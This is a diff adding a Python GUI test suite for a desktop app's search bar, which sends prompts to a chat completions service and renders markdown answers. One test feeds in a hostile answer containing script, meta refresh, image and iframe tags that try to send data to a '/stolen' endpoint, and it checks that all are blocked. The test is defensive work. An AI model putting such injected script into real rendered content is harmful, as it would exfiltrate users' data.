@@ -1,0 +1,341 @@
+"""The search bar: a prompt from anywhere, and its answer in the panel."""
+import json
+import time
+
+from harness.case import VelkinTestCase
+from harness.completions import Held, cutOff, raw, reset, sharedCompletions, status, well
+from harness.waiting import settle, waitFor
+
+HOTKEY = "ctrl+shift+r"
+ANSWER = """# Sorting
+
+Here is a **short** comparison, with `std::sort` first:
+
+| algorithm | stable |
+| --- | --- |
+| sort | no |
+| stable_sort | yes |
+
+- pick the first
+- unless you need *stability*
+
+```cpp
+std::sort(v.begin(), v.end());
+```
+
+> Measure before you change anything.
+"""
+# Colours of the answer's page.
+LIGHT_PAGE = (0xF0, 0xF0, 0xF4)
+DARK_PAGE = (0x16, 0x1B, 0x22)
+
+
+class Search(VelkinTestCase):
+    def setUp(self):
+        super().setUp()
+        self.completions = sharedCompletions()
+        self.completions.clear()
+        self.other = self.desktop.openOtherWindow(60, 600)
+        self.addCleanup(self.other.wait)
+        self.addCleanup(self.other.kill)
+
+    def begin(self, key="sk-test", environment=None, **settings):
+        """The program with a key, behind another program's window that has the keyboard."""
+        self.home.settled(searchBarKey=key, **settings)
+        velkin = self.start(environment=environment)
+        other = waitFor("the other window", lambda: self.desktop.windows(title="Event Tester"), 10)[0]
+        self.desktop.click(*other.centre)
+        waitFor("the other window to be active", lambda: self.desktop.activeWindow() == other.id, 10)
+        self.otherWindow = other
+        return velkin
+
+    def searchPanel(self):
+        found = [w for w in self.desktop.windows() if w.title != "Velkin" and not w.overrideRedirect]
+        return found[0] if found else None
+
+    def openPanel(self):
+        self.assertIsNone(self.searchPanel(), "the panel is open already")
+        self.desktop.key(HOTKEY)
+        window = waitFor("the panel", self.searchPanel, 10, describe=self.describeWindows)
+        waitFor("the panel to have the keyboard", lambda: self.desktop.activeWindow() == window.id, 10)
+        return window
+
+    def waitForPanelToClose(self):
+        waitFor("the panel to close", lambda: not self.searchPanel(), 10, describe=self.describeWindows)
+
+    def ask(self, prompt, number=0):
+        """Types the prompt into the field, which has the keyboard; returns what the service saw."""
+        self.desktop.type(prompt)
+        self.desktop.key("Return")
+        return self.completions.waitForRequest(number)
+
+    def waitForAnswer(self):
+        """The panel with an answer in it is the highest."""
+        panel = waitFor("the answer", lambda: next((w for w in [self.searchPanel()] if w and w.height > 400), None), 15,
+                        describe=self.describeWindows)
+        settle(0.5)
+        return panel
+
+    def tapField(self, panel):
+        self.desktop.click(panel.x + 300, panel.y + 45)
+        settle(0.2)
+
+    def copied(self, panel):
+        """What the Copy button puts on the clipboard; the way to learn what the answer is."""
+        holder = self.desktop.copy(b"nothing")
+        settle(0.2)
+        self.desktop.click(panel.x + panel.width // 2, panel.y + 117)
+
+        def taken():
+            # An owner that has just lost the clipboard answers nobody any more.
+            text = self.session.output("timeout", "2", "xclip", "-selection", "clipboard", "-o", check=False)
+            return text if text not in ("", "nothing") else None
+
+        text = waitFor("the answer on the clipboard", taken, 10)
+        holder.wait(10)
+        return text
+
+    def searches(self):
+        text = self.home.readSettings().get("searchBarRecentSearches", "")
+        return json.loads(text)["searches"] if text else []
+
+    def pageColour(self, panel):
+        """Of the answer's page, where it is empty."""
+        return self.desktop.colourAt(panel.right - 22, panel.bottom - 16)
+
+    def testThePanelOpensOverAnotherProgramWithTheKeyboardInItsField(self):
+        self.begin()
+        self.completions.willAnswer(well("yes"))
+        panel = self.openPanel()
+        # Centred, and its frame of 720 x 200 with its middle at 1.3 times the middle of the screen, from below.
+        self.assertEqual((panel.x, panel.y, panel.width, panel.height), (280, 215, 720, 200))
+        self.assertEqual(self.ask("first letter counts").prompt, "first letter counts")
+
+    def testAnAnswerIsShownAndKept(self):
+        self.begin(key="sk-key with blanks ")
+        self.completions.willAnswer(well(ANSWER))
+        self.openPanel()
+        asked = self.ask('Say "it", then\\ sort?')
+        self.assertEqual(asked.path, "/v1/chat/completions")
+        self.assertEqual(asked.prompt, 'Say "it", then\\ sort?')
+        self.assertEqual(asked.key, "sk-key with blanks ", "as it is stored")
+        self.assertEqual(json.loads(asked.body), {"model": "gpt-3.5-turbo", "temperature": 0.3, "messages": [
+            {"role": "user", "content": 'Say "it", then\\ sort?'}]})
+        panel = self.waitForAnswer()
+        self.assertEqual((panel.x, panel.y, panel.width), (280, 215, 720))
+        waitFor("the page's colour", lambda: self.pageColour(panel) == LIGHT_PAGE, 10,
+                describe=lambda: self.pageColour(panel))
+        self.assertGreater(self.desktop.coloursIn(panel), 50)
+        text = self.copied(panel)
+        self.assertTrue(text.startswith('## Say "it", then\\ sort?\n\n<h1>Sorting</h1>'), text[:80])
+        for piece in ("<table>", "<li>", "<pre>", "<blockquote", "<code>std::sort</code>"):
+            self.assertIn(piece, text)
+        search = self.searches()[0]
+        self.assertEqual(search["searchPrompt"], 'Say "it", then\\ sort?')
+        self.assertEqual(search["resultMarkdown"], text.split("\n\n", 1)[1])
+        self.assertLess(abs(search["date"] + 978307200 - time.time()), 120)
+        self.assertIn(r"<\/h1>", self.home.readSettings()["searchBarRecentSearches"])
+
+    def testAnEarlierAnswerIsRecalledWithoutARequest(self):
+        self.begin()
+        self.completions.willAnswer(well("the **one** answer"))
+        self.openPanel()
+        self.ask("one")
+        self.waitForAnswer()
+        self.desktop.key("Escape")
+        self.waitForPanelToClose()
+        panel = self.openPanel()
+        self.assertEqual(panel.height, 200, "each panel starts empty")
+        self.desktop.click(panel.x + 42, panel.y + 46)
+        menu = waitFor("the menu of recent searches",
+                       lambda: next((w for w in self.desktop.windows() if w.overrideRedirect), None), 10)
+        self.desktop.picture(self.artefact("menu.png"))
+        self.desktop.click(menu.centre[0], menu.y + 55)
+        panel = self.waitForAnswer()
+        self.assertEqual(self.copied(panel), "## one\n\n<p>the <strong>one</strong> answer</p>")
+        self.desktop.key("Return")
+        settle(0.5)
+        self.assertEqual(len(self.completions.requests), 1)
+
+    def testTheHotkeyAndEscapeCloseItAndTheOtherProgramHasTheKeyboardAgain(self):
+        self.begin()
+        for key in (HOTKEY, "Escape"):
+            self.openPanel()
+            self.desktop.type("never sent")
+            self.desktop.key(key)
+            self.waitForPanelToClose()
+            waitFor("the other window to be active",
+                    lambda: self.desktop.activeWindow() == self.otherWindow.id, 10)
+        panel = self.openPanel()
+        self.assertEqual(panel.height, 200)
+
+    def testTheFieldComesBackByATapAndASecondPromptIsSent(self):
+        self.begin()
+        self.completions.willAnswer(well("first"), well("second"))
+        self.openPanel()
+        self.ask("one")
+        panel = self.waitForAnswer()
+        self.tapField(panel)
+        self.desktop.key("Return")
+        settle(0.4)
+        self.assertEqual(len(self.completions.requests), 1, "the same prompt is not sent again")
+        self.desktop.key("ctrl+a")
+        self.assertEqual(self.ask("two", number=1).prompt, "two")
+        settle(0.5)
+        self.assertEqual(self.copied(self.waitForAnswer()), "## two\n\n<p>second</p>")
+        self.assertEqual([s["searchPrompt"] for s in self.searches()], ["one", "two"])
+
+    def testEveryFailureIsToldAndMayBeTriedAgain(self):
+        self.begin()
+        start = 'Could not complete request.:-( \nError:Error Domain='
+        cases = [
+            (status(401), start + 'HTTP Status Code: 401 Code=-1 "(null)"'),
+            (status(429), start + 'HTTP Status Code: 429 Code=-1 "(null)"'),
+            (status(204, b""), start + 'HTTP Status Code: 204 Code=-1 "(null)"'),
+            (raw(b"{broken"), start + "NSCocoaErrorDomain Code=3840"),
+            (raw(b'{"choices": []}'), start + 'Invalid JSON Code=-1 "(null)"'),
+            (raw(b"x" * 50 * 1024 * 1024), start + "NSCocoaErrorDomain Code=3840"),
+            (cutOff(), start + "NSURLErrorDomain Code=-1005"),
+            (reset, start + "NSURLErrorDomain Code=-1005"),
+        ]
+        self.completions.willAnswer(*[answer for answer, _ in cases], well("at last"))
+        self.openPanel()
+        self.desktop.type("again")
+        for number, (_, expected) in enumerate(cases):
+            self.desktop.key("Return")
+            self.completions.waitForRequest(number)
+            settle(0.8)
+            panel = self.waitForAnswer()
+            if number == 0:
+                self.desktop.picture(self.artefact("error.png"))
+            text = self.copied(panel)
+            self.assertTrue(text.startswith("## again\n\n" + expected), text[:300])
+            self.tapField(panel)
+        self.assertEqual(self.searches(), [])
+        self.desktop.key("Return")
+        self.completions.waitForRequest(len(cases))
+        settle(0.8)
+        self.assertEqual(self.copied(self.waitForAnswer()), "## again\n\n<p>at last</p>")
+
+    def testClosingThePanelDuringARequestKeepsTheAnswer(self):
+        velkin = self.begin()
+        held = Held(well("late"))
+        self.completions.willAnswer(held)
+        self.openPanel()
+        self.ask("slow")
+        self.desktop.picture(self.artefact("waiting.png"))
+        self.desktop.key("Escape")
+        self.waitForPanelToClose()
+        held.release()
+        waitFor("the answer in the history", self.searches, 10)
+        self.assertEqual(self.searches()[0]["resultMarkdown"], "<p>late</p>")
+        self.assertTrue(velkin.running())
+        self.openPanel()
+
+    def testTheKeyIsEnteredUsedAndReset(self):
+        self.begin(key="")
+        self.completions.willAnswer(well("thanks"))
+        panel = self.openPanel()
+        self.assertGreater(panel.height, 220, "it tells how to get a key")
+        self.desktop.picture(self.artefact("key.png"))
+        self.desktop.type("sk-typed")
+        self.desktop.key("Return")
+        waitFor("the key in the settings", lambda: self.home.readSettings().get("searchBarKey") == "sk-typed", 10)
+        self.assertEqual(self.ask("with a key").key, "sk-typed")
+        panel = self.waitForAnswer()
+        for _ in range(7):
+            self.desktop.click(panel.right - 40, panel.y + 46)
+        settle(0.4)
+        self.desktop.picture(self.artefact("reset.png"))
+        self.desktop.click(panel.x + 60, panel.y + 117)
+        waitFor("the key to be gone", lambda: self.home.readSettings()["searchBarKey"] == "", 10)
+        self.desktop.key("Escape")
+        self.waitForPanelToClose()
+        self.assertGreater(self.openPanel().height, 220, "the key stays gone")
+
+    def testALinkOpensInTheBrowserAndThePanelStays(self):
+        self.begin()
+        self.completions.willAnswer(well("[" + "a link as wide as the page is " * 3 + "](https://example.org/there)"))
+        self.openPanel()
+        self.ask("where?")
+        panel = self.waitForAnswer()
+        self.desktop.click(panel.x + 150, panel.y + 180)
+        waitFor("the browser", self.home.openedInBrowser, 10, describe=self.describeWindows)
+        self.assertEqual(self.home.openedInBrowser(), ["https://example.org/there"])
+        self.assertEqual(self.pageColour(panel), LIGHT_PAGE)
+
+    def testAHostileAnswerReachesNothing(self):
+        self.begin()
+        hostile = """<script>
+for (const host of ["127.83.0.1", "127.83.0.7"]) {
+  const to = "http://" + host + ":8471/stolen";
+  fetch(to); new Image().src = to; navigator.sendBeacon(to, "x");
+}
+window.open("http://127.83.0.1:8471/stolen"); alert("hello"); location = "http://127.83.0.1:8471/stolen";
+</script><meta http-equiv="refresh" content="0;url=http://127.83.0.1:8471/stolen">
+<img src="http://127.83.0.1:8471/stolen"><iframe src="http://127.83.0.1:8471/stolen"></iframe>
+
+The rest of it."""
+        self.completions.willAnswer(well(hostile))
+        self.openPanel()
+        self.ask("be good")
+        panel = self.waitForAnswer()
+        settle(2)
+        self.assertEqual(self.chat.loads("/stolen"), [])
+        self.assertEqual(len(self.completions.requests), 1)
+        self.assertEqual(self.home.openedInBrowser(), [])
+        self.assertEqual([w.width for w in self.desktop.windows()], [720])
+        self.assertEqual(self.pageColour(panel), LIGHT_PAGE)
+
+    def testALongAnswerIsReadToItsEndByTheWheel(self):
+        self.begin()
+        self.completions.willAnswer(well("word " * 2000 + "\n\n# The end\n\n" + "<br>" * 12))
+        self.openPanel()
+        self.ask("much?")
+        panel = self.waitForAnswer()
+
+        def picture():
+            cut = f"640x300+{panel.x + 20}+{panel.y + 170}"
+            return self.session.output("import", "-window", "root", "-crop", cut, "-format", "%#", "info:")
+
+        start = waitFor("the answer's page", lambda: self.pageColour(panel) == LIGHT_PAGE and picture(), 10)
+        self.desktop.move(*panel.centre)
+        for _ in range(5):
+            self.desktop.click(*panel.centre, button=5)
+        middle = waitFor("the page to scroll", lambda: next((p for p in [picture()] if p != start), None), 10)
+        for _ in range(60):
+            self.desktop.click(*panel.centre, button=5)
+        settle(0.5)
+        self.assertNotEqual(picture(), middle)
+        for _ in range(90):
+            self.desktop.click(*panel.centre, button=4)
+        waitFor("the page's beginning", lambda: picture() == start, 10)
+
+    def testAPageWhoseProcessDiesComesBack(self):
+        velkin = self.begin()
+        self.completions.willAnswer(well("stays"))
+        self.openPanel()
+        self.ask("you?")
+        panel = self.waitForAnswer()
+        waitFor("the answer's page", lambda: self.pageColour(panel) == LIGHT_PAGE, 10)
+        self.assertTrue(velkin.killWebProcesses())
+        waitFor("the page to be there again", lambda: self.pageColour(panel) == LIGHT_PAGE and velkin.webProcesses(),
+                15)
+        self.assertEqual(self.copied(panel), "## you?\n\n<p>stays</p>")
+
+    def testADarkDesktopHasADarkAnswer(self):
+        self.begin(environment={"ADW_DEBUG_COLOR_SCHEME": "prefer-dark"})
+        self.completions.willAnswer(well(ANSWER))
+        self.openPanel()
+        self.ask("dark?")
+        panel = self.waitForAnswer()
+        waitFor("the page's colour", lambda: self.pageColour(panel) == DARK_PAGE, 10,
+                describe=lambda: self.pageColour(panel))
+
+    def testABrokenHistoryIsNoHindrance(self):
+        self.begin(searchBarRecentSearches="{no json")
+        self.completions.willAnswer(well("fine"))
+        self.openPanel()
+        self.ask("one")
+        self.waitForAnswer()
+        self.assertEqual([s["searchPrompt"] for s in self.searches()], ["one"])
